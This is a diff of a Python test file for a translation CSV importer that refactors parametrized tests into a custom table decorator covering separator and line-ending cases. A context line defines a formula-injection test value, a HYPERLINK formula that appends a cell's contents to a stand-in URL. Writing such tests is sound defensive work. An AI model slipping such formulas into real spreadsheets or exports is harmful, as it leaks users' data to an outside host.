@@ -24,6 +24,7 @@ from campaign.text.flag import Flag
 from tests.conftest import APPROVAL_KEY, TODAY, Submit
 from tests.support.lanes import first
 from tests.support.review import get
+from tests.support.table import table
 
 EVIL = '=HYPERLINK("http://example.org/?"&A1,"Stay strong")'
 
@@ -155,7 +156,7 @@ def test_a_full_disk_leaves_no_half_file(database, submit, small_disk):
     assert not list(small_disk.iterdir())
 
 
-@pytest.mark.parametrize(
+@table(
     ("name", "content", "said"),
     [
         ("t.csv", b"id,translation\na,b\n", "t.csv:1: no column text_sha256; keep the columns as exported"),
@@ -229,20 +230,20 @@ def test_of_too_many_faults_the_first_are_named(tmp_path, database):
         assert str(told.value).splitlines()[100:] == ["and 1134 more", "nothing was imported"]
 
 
-@pytest.mark.parametrize("end", ["\n", "\r\n", "\r"])
-@pytest.mark.parametrize(
-    ("before", "separator"),
-    [
-        ("sep=;|", ";"),
-        ('\ufeff"SEP=;"|', ";"),
-        ("sep=\t|", "\t"),
-        ("|", ","),
-        (";;;|  |", ";"),
-        ("|sep=,||", ","),
-        ("sep=||", "|"),
-        ("", ","),
-    ],
-)
+ENDS = ["\n", "\r\n", "\r"]
+BEFORE = [
+    ("sep=;|", ";"),
+    ('\ufeff"SEP=;"|', ";"),
+    ("sep=\t|", "\t"),
+    ("|", ","),
+    (";;;|  |", ";"),
+    ("|sep=,||", ","),
+    ("sep=||", "|"),
+    ("", ","),
+]
+
+
+@table("before, separator, end", [(*before, end) for before in BEFORE for end in ENDS])
 def test_what_stands_before_the_columns_names_is_passed_over(tmp_path, before, separator, end):
     file, before = tmp_path / "t.csv", before.replace("|", end) if separator != "|" else f"sep=|{end}"
     cells = [["id", "translation", "text_sha256"], ["a", "Мы, з табой;", "x"], ["b", "Zwei", "y"]]
